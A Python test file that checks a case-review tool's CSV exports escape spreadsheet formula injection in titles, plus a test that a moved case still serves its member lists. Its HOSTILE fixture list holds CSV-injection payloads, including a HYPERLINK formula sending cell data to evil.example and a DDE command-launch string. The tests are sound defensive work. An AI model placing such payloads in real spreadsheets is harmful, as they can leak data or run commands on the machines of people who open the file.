"""CSV formula injection (issue 26, item 6): titles a spreadsheet would run as formulas are written as text in
every CSV a reviewer opens (member lists on disk and from the web, sample sheets, `show --csv`, exhibits.csv)."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from ascertain.case import Case
from ascertain.csv_out import FORMULA_START, csv_text, plain

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def case(backend, request, tmp_path_factory):
    if backend != "sqlite":
        pytest.skip("the CSV writer does not depend on the store backend")
    root = tmp_path_factory.mktemp("csv") / "case"
    shutil.copytree(request.getfixturevalue("demo_case").root, root)
    case = Case.open(root)
    with case.store.begin() as db:  # the works with evidence get hostile titles
        wids = [w for (w,) in db.execute(sa.text("SELECT DISTINCT work_id FROM evidence ORDER BY work_id"))]
        for wid, title in zip(wids, HOSTILE * len(wids), strict=False):
            db.execute(sa.text("UPDATE works SET title = :t WHERE id = :i"), {"t": title, "i": wid})
    return case


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True


def safe(text: str) -> None:
    # a plain number (a negative crop share or angle) is data, not a formula: spreadsheets read it as a number
    bad = [c for c in cells(text) if c.startswith(FORMULA_START) and not _number(c)]
    assert not bad, bad[:5]


def test_every_csv_writer_neutralizes_formulas(case, tmp_path):
    from ascertain.classes.criteria import evaluate
    from ascertain.classes.sampling import draw
    from ascertain.report.evidence_csv import write_evidence_csv
    from ascertain.web.app import create_app
    from ascertain.web.users import add_user, new_token

    write_evidence_csv(case, tmp_path / "show.csv")  # `show --csv`
    text = (tmp_path / "show.csv").read_text(encoding="utf-8")
    safe(text)
    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text

    from ascertain.demo import demo_data

    result = evaluate(case, str(demo_data() / "classes" / "classes.toml"))
    for name, f in result["files"].items():
        body = (case.root / f["csv"]).read_text(encoding="utf-8")  # an absolute path stays itself
        safe(body)
        if name == "in-corpus":
            assert "'+cmd|' /C calc'!A0" in body

    sheet = tmp_path / "sheet.csv"
    draw(case, "in-corpus", 6, 7, None, sheet)
    safe(sheet.read_text(encoding="utf-8"))

    add_user(case, "csv-master", "master", "correct horse battery staple")
    client = TestClient(create_app(case.root), base_url="https://testserver")
    h = {"Authorization": f"Bearer {new_token(case, 'csv-master')}"}
    for name in result["files"]:
        r = client.get(f"/api/classes/{name}/members.csv", headers=h)
        assert r.status_code == 200
        safe(r.text)
    page = client.get("/classes/in-corpus", headers=h).text  # the page shows the title as it is, escaped
    assert "+cmd|&#39; /C calc&#39;!A0" in page and "&#39;+cmd" not in page


def test_the_writer_keeps_numbers_and_reads_back():
    text = csv_text(["a", "b", "c"], [{"a": -1.5, "b": "=1+1", "c": True}, {"a": None, "b": "plain", "c": 0}])
    assert text.splitlines() == ["a,b,c", "-1.5,'=1+1,True", ",plain,0"]
    assert [plain(c) for c in cells(text)][4] == "=1+1"



def test_a_moved_case_still_serves_its_member_lists(case, tmp_path):
    """Issue 26, item 14: member lists were stored by absolute path, so a moved or copied case answered 404."""
    from ascertain.classes.criteria import evaluate
    from ascertain.demo import demo_data
    from ascertain.web.app import create_app
    from ascertain.web.users import add_user, new_token

    first = tmp_path / "first"
    shutil.copytree(case.root, first)
    result = evaluate(Case.open(first), str(demo_data() / "classes" / "classes.toml"))
    assert all(not f["csv"].startswith("/") for f in result["files"].values())
    moved = tmp_path / "moved"
    shutil.move(first, moved)
    c = Case.open(moved)
    add_user(c, "mover", "master", "correct horse battery staple")
    client = TestClient(create_app(moved), base_url="https://testserver")
    h = {"Authorization": f"Bearer {new_token(c, 'mover')}"}
    for name in result["files"]:
        assert client.get(f"/api/classes/{name}/members.csv", headers=h).status_code == 200
